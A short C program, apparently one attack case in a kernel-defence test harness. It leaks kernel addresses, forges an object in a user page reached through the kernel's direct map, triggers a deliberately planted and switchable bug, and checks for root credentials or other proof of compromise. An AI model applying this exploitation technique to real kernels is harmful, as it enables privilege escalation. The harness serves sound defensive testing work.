/*
 * One sentence: which bug the kernel is attacked through, and with what. This one has the kernel
 * call through a forged object in the direct map.
 */
#include "attack.h"

int main(void)
{
	struct bw_leak leak;

	/* Where things are in the kernel. An attack may know it all: the defences must hold even
	 * so. */
	attack_leak(&leak);

	/* 1. What the attacker controls: memory of its own, and what it puts there. */
	void *page = attack_pages(BW_PAGE_SIZE);
	uint64_t synonym = attack_synonym(&leak, page);

	payload_object(page, synonym, &leak);

	/* 2. Say what is about to happen: nothing can be said any more once the kernel has faulted.
	 */
	attack_say("forged object at 0x%lx, which the kernel would see at 0x%lx", (uintptr_t)page,
		   synonym);

	/* 3. The bug, one of the bw_vuln_ calls; attack_check ends the attack where vuln=off
	 * refuses it. */
	attack_check("vuln_call", bw_vuln_call(synonym));

	/*
	 * 4. Only the kernel can say whether it worked: the process is root (as here, through
	 * credentials_set), has proved the flag (bw_flag_prove) or the image's base
	 * (bw_base_prove), or has changed sealed memory.
	 */
	return attack_finish();
}
